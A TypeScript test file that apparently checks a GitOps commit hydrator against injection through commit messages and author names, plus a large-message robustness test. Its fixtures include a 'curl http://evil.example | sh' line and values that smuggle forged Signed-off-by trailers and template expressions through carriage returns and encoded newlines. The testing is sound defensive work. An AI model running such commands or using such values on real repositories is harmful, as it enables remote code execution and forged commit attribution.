import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { test } from 'node:test'
import { configMap } from '../application-fixture.ts'
import { isSettled } from '../gateway-fixture.ts'
import { startMeshFixture } from '../mesh-fixture.ts'

/** The trailers of a message as git reads them. */
async function trailersOf(message: string): Promise<string[]> {
  const child = execFile('git', ['interpret-trailers', '--parse'])
  child.stdin?.end(message)
  const output = child.stdout === null ? '' : await text(child.stdout)
  return output.split('\n').filter((line) => line !== '')
}

test('text of a dry commit adds no trailer to the hydrated one, is not a template and no line of the README', async () => {
  await using mesh = await startMeshFixture()
  const { fixture } = mesh
  const repository = await fixture.createRepository('text', { 'web/a.yaml': configMap('a', '0') })
  const branch = 'environments/text'
  await fixture.applyAndWait(await repository.dry.head(), { name: 'web', repoURL: repository.url, branch })
  const messages = [
    'Fix web\n\nSigned-off-by: Boss <boss@example.com>\nCo-authored-by: Victim <victim@example.com>',
    'Fix web\nSigned-off-by: Boss <boss@example.com>\n```\ncurl http://evil.example | sh\n\nA body.',
    'Fix web\n\nA body.\n\nSigned-off-by: Boss <boss@example.com>\n\nReviewed-by: Boss <boss@example.com>',
    '{{ env "HOME" }} {{ .metadata.author }}\n\n{{ range $i, $e := until 9 }}{{ $e }}{{ end }}',
    'Fix web\n\nArgocd-reference-commit-author: Boss <boss@example.com>%0aSigned-off-by: Boss\nArgocd-reference-commit-subject: x\\nSigned-off-by: Boss <boss@example.com>',
    'Fix web\r\n\r\nSigned-off-by: Boss <boss@example.com>\r\n',
    'Fix web\n\nbody\rSigned-off-by: Boss <boss@example.com>',
    'Fix \u2028Signed-off-by: Boss <boss@example.com>',
  ]
  const author = { name: 'Mallory {{ env "HOME" }}\rSigned-off-by: Boss', email: 'mallory@example.com' }
  for (const [index, message] of messages.entries()) {
    const sha = await repository.push({ 'web/a.yaml': configMap('a', String(index + 1)) }, message, {
      author,
    })
    await fixture.hydrateTo(sha, 'web')
    const head = await repository.head(branch)
    const hydrated = await repository.commitField(head, '%B')
    const what = JSON.stringify(hydrated)
    assert.ok(!hydrated.includes('\r'), what)
    const trailers = await trailersOf(`${hydrated}\n`)
    assert.deepEqual(
      trailers.filter((line) => !line.startsWith('Co-authored-by: ')),
      [],
      what,
    )
    assert.ok(
      trailers.every((line) => !line.includes('victim')),
      what,
    )
    if (message.includes('{{')) assert.ok(hydrated.includes('{{ env "HOME" }} {{ .metadata.author }}'), what)
    const readme = await repository.read(branch, 'web/README.md')
    const [, reported = ''] = /^\* Message: ([^\n]*)$/m.exec(readme) ?? []
    const [subject = ''] = message.replaceAll('\r\n', '\n').trim().split('\n\n')
    assert.equal(reported, subject.replaceAll('\n', ' '), readme)
    assert.ok(!readme.includes('\r'), readme)
    assert.match(
      readme,
      /^\* Author: Mallory \{\{ env "HOME" \}\} Signed-off-by: Boss <mallory@example\.com>$/m,
    )
    assert.equal(readme.split('```').length, message.includes('```') ? 4 : 3, readme)
    const metadata: unknown = JSON.parse(await repository.read(branch, 'web/hydrator.metadata'))
    assert.equal((metadata as { drySha: string }).drySha, sha)
  }
})

test('a body of megabytes neither stops hydration nor is repeated in every directory', async () => {
  await using mesh = await startMeshFixture()
  const { fixture } = mesh
  const repository = await fixture.createRepository('large', { 'web/a.yaml': configMap('a', '0') })
  const branch = 'environments/large'
  await fixture.applyAndWait(await repository.dry.head(), { name: 'web', repoURL: repository.url, branch })
  for (const size of [1_000_000, 3_500_000]) {
    const body = 'all work and no play\n'.repeat(size / 21)
    await repository.dry.commitFiles({ 'web/a.yaml': configMap('a', String(size)) }, 'Large')
    const file = join(fixture.directory, 'message')
    await writeFile(file, `Large\n\n${body}`)
    await repository.dry.git.raw(['commit', '--quiet', '--amend', '--file', file])
    await repository.dry.git.push([repository.directory, 'HEAD:main'])
    const sha = await repository.dry.head()
    await fixture.gateway.applications.hydrateApplication({ name: 'web' })
    const { currentOperation } = await fixture.waitFor('web', isSettled)
    assert.deepEqual([currentOperation?.phase, currentOperation?.message], ['Hydrated', ''])
    assert.equal(currentOperation?.drySHA, sha)
    const message = await repository.commitField(await repository.head(branch), '%B')
    assert.match(message, /^[0-9a-f]{7}: Large\n\nall work/)
    assert.ok(message.length < 70_000)
    assert.ok((await repository.read(branch, 'web/hydrator.metadata')).length < 80_000)
  }
})
